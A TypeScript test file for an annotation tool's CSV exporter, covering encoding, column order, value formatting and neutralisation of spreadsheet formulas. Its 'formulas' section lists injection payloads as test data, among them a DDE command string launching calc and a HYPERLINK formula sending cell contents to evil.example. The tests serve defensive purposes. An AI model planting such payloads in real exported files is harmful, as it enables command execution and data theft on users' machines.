import assert from 'node:assert/strict';
import fc from 'fast-check';
import { describe, it } from 'mocha';
import papaparse from 'papaparse';
import type { Annotation } from '../../../src/annotation/annotation.ts';
import { writeCsv } from '../../../src/exchange/csv.ts';
import { csvText } from '../../../src/exchange/csvCell.ts';
import { collected, placed, report, tableOf } from './placedAnnotations.ts';

async function csv(...annotations: readonly Partial<Annotation>[]): Promise<string> {
  const one = report(
    '# T\n',
    annotations.map(annotation => placed(annotation)),
  );
  return (await collected(writeCsv(tableOf([one])))).join('');
}

/** The first data row, by column. */
async function record(annotation: Partial<Annotation>): Promise<ReadonlyMap<string, string>> {
  const [header, row] = papaparse.parse<string[]>((await csv(annotation)).slice(1), { newline: '\r\n' }).data;
  return new Map(header!.map((name, index) => [name, row![index]!]));
}

describe('CSV', () => {
  it('begins with a byte order mark, and ends each record with CRLF', async () => {
    const text = await csv({ quote: 'a\n\nb' }, { quote: 'c' });
    assert.equal(text.charCodeAt(0), 0xfeff);
    assert.equal(text.split('\r\n').length, 4);
    assert.ok(text.endsWith('\r\n'));
  });

  it('has the columns in their order, the id last', async () => {
    const attributes = new Map([
      ['value', 1],
      ['measure', 2],
    ]);
    const header = (await csv({ attributes })).split('\r\n')[0]!.slice(1);
    assert.equal(
      header,
      '"report","section","paragraph","line","state","coder","tag","codes","quote","note","made","measure","value","id"',
    );
  });

  it('has columns for remarks where there are any', async () => {
    const row = await record({ re: 'bob/x9', answer: 'disagree' });
    assert.equal(row.get('remark on'), 'bob/x9');
    assert.equal(row.get('answer'), 'disagree');
    assert.ok(!(await csv({})).includes('remark on'));
  });

  it('gives an attribute that is called like a column a name of its own', async () => {
    const names = ['quote', 'attribute.quote', 'id', 'answer', '__proto__'];
    const row = await record({ quote: 'Q', attributes: new Map(names.map(name => [name, `= ${name}`])) });
    assert.equal(row.get('quote'), 'Q');
    assert.equal(row.get('attribute.quote'), "'= attribute.quote");
    assert.equal(row.get('attribute.attribute.quote'), "'= quote");
    assert.equal(row.get('attribute.id'), "'= id");
    assert.equal(row.get('attribute.answer'), "'= answer");
    assert.equal(row.get('__proto__'), "'= __proto__");
  });

  it('writes values of every kind', async () => {
    const values = {
      number: -5,
      float: 24.6,
      yes: true,
      nothing: null,
      list: ['a', 1, false],
      text: '24.6%',
    };
    const row = await record({ attributes: new Map(Object.entries(values)) });
    assert.deepEqual(
      Object.keys(values).map(name => row.get(name)),
      ['-5', '24.6', 'true', '', 'a; 1; false', '24.6%'],
    );
  });

  it('quotes text, not numbers', async () => {
    const text = await csv({ quote: 'say "x", y', attributes: new Map([['value', -5]]) });
    assert.match(text, /"say ""x"", y",,,-5,"a1"\r\n$/);
  });

  it('gives every text back', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary' }), async quote => {
        const given = (await record({ quote })).get('quote')!;
        const readable = quote.replaceAll('\0', '\uFFFD');
        assert.ok(given === readable || given === `'${readable}`);
      }),
    );
  });

  describe('formulas', () => {
    const attacks = [
      '=1+1',
      '+1+1',
      '-1+1',
      '@SUM(1)',
      '\t=1',
      '\r=1',
      '\n=1',
      '\tx',
      '\rx',
      '＝1+1',
      '＋1+1',
      '－1+1',
      '＠SUM(1)',
      '  =1+1',
      '\u00a0=1+1',
      '\uFEFF=1+1',
      '\u200b=1+1',
      '"=1+1',
      "'=1+1",
      ';=1+1',
      ' "; ＝1',
      ',=1',
      "-2+3+cmd|' /C calc'!A0",
      '=HYPERLINK("https://evil.example/?"&A1,"x")',
      '-',
      '- an item of a list',
    ];
    for (const attack of attacks) {
      it(`are text: ${JSON.stringify(attack)}`, async () => {
        assert.equal(csvText(attack), `'${attack}`);
        const row = await record({
          tags: [attack],
          quote: attack,
          note: attack,
          attributes: new Map([[attack, attack]]),
        });
        for (const column of ['codes', 'quote', 'note', `'${attack}`]) {
          assert.equal(row.get(column), `'${attack}`, column);
        }
      });
    }

    it('leave what can be none as it is', () => {
      for (const text of [
        '',
        'a',
        '-5',
        '+1.2%',
        '-1,200.50',
        'a=b',
        '1-2',
        '“-5”',
        '– a dash',
        '…=',
        '(=1)',
      ]) {
        assert.equal(csvText(text), text);
      }
    });
  });
});
